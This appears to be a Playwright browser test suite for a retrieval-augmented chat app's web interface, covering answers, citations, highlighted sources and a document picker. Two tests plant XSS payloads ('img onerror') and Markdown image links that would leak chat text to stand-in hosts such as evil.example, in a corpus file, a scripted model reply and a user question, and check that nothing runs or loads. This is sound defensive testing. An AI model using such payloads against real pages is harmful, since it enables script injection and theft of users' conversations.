"""What a person sees: Debian's Chromium driven by Playwright against the served app."""

import re
import shutil

import pytest

import rag
from ui import serve as ui_serve

from ..fakes import ReplayChatModel, ScriptedChatModel
from ..helpers import CORPUS, SHOTS, ask_in_browser, question_box, serve

pytestmark = pytest.mark.browser


def test_question_answer_citation_and_highlighted_source(browser, ready_settings, embedder, request):
    """The real default model answers in the page; the marker and its highlighted quote are visible."""
    backend = request.config.getoption("--ui-backend")
    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": backend}), embedder=embedder)
    url = serve(engine)
    try:
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        ask_in_browser(page, url, "When was the Ottawa Convention signed?")
        page.wait_for_selector("#sources h3:has-text('Sources') ~ .source mark", timeout=300_000)
        bot = page.locator("#chat .message.bot, #chat [data-testid='bot']").last
        answer = bot.inner_text()
        assert "1997" in answer, answer
        cited = {
            int(n) for group in re.findall(r"\[(\d+(?:\s*[,;]\s*\d+)*)\]", answer) for n in re.split(r"[,;]", group)
        }
        cards = {
            int(i.removeprefix("source-"))
            for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")
        }
        assert cited, f"no citation marker in the answer: {answer!r}"
        assert cited == cards, f"markers {sorted(cited)} in the answer, source cards {sorted(cards)} in the panel"
        for n in cited:
            mark = page.locator(f"#sources #source-{n} mark").first
            assert mark.is_visible() and mark.inner_text().strip(), f"source [{n}] has no highlighted quote"
        SHOTS.mkdir(exist_ok=True)
        page.screenshot(path=str(SHOTS / "chat.png"))
    finally:
        ui_serve.close_all()


def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
    """Script in a chunk and a model that writes an <img onerror> and an external Markdown image: nothing runs or
    loads."""
    shutil.copytree(CORPUS, tmp_path / "corpus")
    (tmp_path / "corpus" / "hostile.md").write_text(
        "# Field notes\n\nThe mine clearance unit met at dawn <img src=x onerror=alert(1)> near the river. "
        "![leak](https://evil.example/collect?chat=secret) The unit cleared forty mines that week.\n"
    )
    settings = rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="local")
    model = ReplayChatModel(
        ["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"]
    )
    engine = rag.Engine(settings, embedder=embedder, llm=model)
    engine.ingest()
    url = serve(engine)
    dialogs, outside = [], []
    try:
        page = browser.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on(
            "request",
            lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None,
        )
        ask_in_browser(page, url, "How many mines did the clearance unit clear that week?")
        page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
        page.wait_for_timeout(1000)
        assert dialogs == [] and outside == []
        assert page.locator("#chat img[src='x'], #sources img").count() == 0
        assert page.locator("#chat img[src*='evil.example']").count() == 0
        assert "forty mines" in page.locator("#chat").inner_text()
    finally:
        ui_serve.close_all()


def test_the_users_own_message_is_plain_text_and_fetches_nothing(browser, ready_settings, embedder):
    """Markdown or HTML typed into the question is shown as typed; the browser requests nothing outside 127.0.0.1,
    and the follow-up's history reaches the server as typed."""
    model = ReplayChatModel(
        ["It was signed in 1997 [1].", "How many countries have joined the Ottawa Convention?", "164 countries [1]."]
    )
    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=model)
    url = serve(engine)
    question = (
        "When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) "
        "<img src=http://attacker.invalid/y> **bold**"
    )
    outside = []
    try:
        page = browser.new_page()
        page.on(
            "request",
            lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None,
        )
        ask_in_browser(page, url, question)
        page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
        page.wait_for_timeout(1000)
        user = page.locator("#chat .message.user").last
        assert user.inner_text().strip() == question
        assert user.locator("img, strong, a[href*='attacker']").count() == 0
        box = question_box(page)
        box.fill("And how many joined it?")
        box.press("Enter")
        page.wait_for_function("document.querySelectorAll('#chat .message.user').length >= 2")
        page.wait_for_selector("#chat .message.bot >> text=164", timeout=60_000)
        assert outside == [], outside
        condense_prompt = model.calls[1][-1].content
        assert (
            "User: When was the Ottawa Convention signed? ![s](http://attacker.invalid/?q=x) <img src="
            in condense_prompt
        )
    finally:
        ui_serve.close_all()


def test_the_document_picker_keeps_the_answer_to_the_chosen_document(browser, ready_settings, embedder):
    """Choose one article in the chat's settings: the sources the answer shows all come from it."""
    engine = rag.Engine(
        ready_settings.model_copy(update={"llm_backend": "local"}), embedder=embedder, llm=ScriptedChatModel()
    )
    titles = {d["source"]: d["title"] for d in engine.admin.documents()}
    question = "How long is Finland's border with Russia?"
    url = serve(engine)
    try:
        for chosen in titles:  # a fresh browser each time: a page opened again resumes its last conversation
            page = browser.new_context(viewport={"width": 1400, "height": 900}).new_page()
            page.goto(url, wait_until="load")
            page.get_by_text("Settings", exact=True).first.click()
            picker = page.locator("#only-docs input").first
            picker.click()
            page.get_by_role("option", name=titles[chosen]).click()
            page.keyboard.press("Escape")
            box = question_box(page)
            box.fill(question)
            box.press("Enter")
            page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
            shown = page.locator("#sources .source").all_inner_texts()
            assert shown and all(titles[chosen] in card for card in shown), (chosen, shown)
            assert not any(title in card for card in shown for source, title in titles.items() if source != chosen)
    finally:
        ui_serve.close_all()


def test_the_chat_answers_with_the_whole_corpus_in_view_and_shows_the_cited_passages(browser, ready_settings, embedder):
    """#27: with the documents fitting the model's context, the page says it reads them whole, the model is shown
    every document, and the sources panel shows the passages the checked answer cites, quote highlighted."""
    model = ReplayChatModel(["The Ottawa Convention was signed in 1997 [2]."])  # a wrong number: the check moves it
    engine = rag.Engine(
        ready_settings.model_copy(update={"llm_backend": "local", "answer_mode": "auto"}), embedder=embedder, llm=model
    )
    url = serve(engine)
    try:
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        ask_in_browser(page, url, "When was the Ottawa Convention signed?")
        assert "reads the whole corpus" in page.locator("#intro").inner_text()
        page.wait_for_selector("#sources h3:has-text('whole corpus') ~ .source mark", timeout=60_000)
        prompt = model.calls[-1][-1].content
        assert all(c.text.split(". ")[-1][:50] in prompt for c in engine.docs.chunks()), "every document was in view"
        answer = page.locator("#chat .message.bot, #chat [data-testid='bot']").last.inner_text()
        cited = {int(n) for n in re.findall(r"\[(\d+)\]", answer)}
        cards = {
            int(i.removeprefix("source-"))
            for i in page.locator("#sources .source").evaluate_all("els => els.map(e => e.id)")
        }
        assert "1997" in answer and cited and cited == cards, (answer, cards)
        (n,) = cited
        assert "1997" in page.locator(f"#sources #source-{n} mark").first.inner_text()
    finally:
        ui_serve.close_all()
